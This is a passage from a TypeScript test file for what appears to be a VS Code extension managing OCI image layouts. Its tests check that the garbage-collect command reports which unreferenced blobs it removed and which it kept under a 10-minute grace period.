        `Removed ${counted(expected.blobs.length, 'unreferenced blob')} and 1 temporary item (${expected.freedBytes} B) from oci:${folder}.`,
      ],
    );
  });

  it('Garbage Collect Layout… says how many unreferenced blobs it keeps because they are younger than its grace period', async () => {
    const folder = path.join(workspaceRoot(), 'layouts', 'gc-young');
    made.push(folder);
    const layout = await LayoutTarget.open(folder, { create: true });
    await pushTextArtifact(layout, { 'kept.txt': 'kept' }, { tag: 'v1' });
    const orphan = await pushTextArtifact(layout, { 'orphan.txt': 'just pushed' }, { tag: 'old' });
    await layout.untag('old');
    const node = await layoutNode(folder);
    const prompts = new ScriptedPrompts();
    assert.equal(
      await answering(api, prompts, () => vscode.commands.executeCommand('stowage.layout.garbageCollect', node)),
      undefined,
    );
    const [notification, ...others] = prompts.notifications;
    assert.deepEqual(others, []);
    const young = await layout.garbageCollect({ dryRun: true, graceMs: 0 });
    assert.match(
      notification?.message ?? '',
      new RegExp(
        `^Nothing to remove in oci:.*gc-young: ${counted(young.blobs.length, 'unreferenced blob')} \\(${young.freedBytes} B\\) are kept because they are younger than the 10-minute grace period: a push may still be tagging them\\.`,
      ),
    );
    assert.ok(await layout.exists(orphan.descriptor));
  });
});
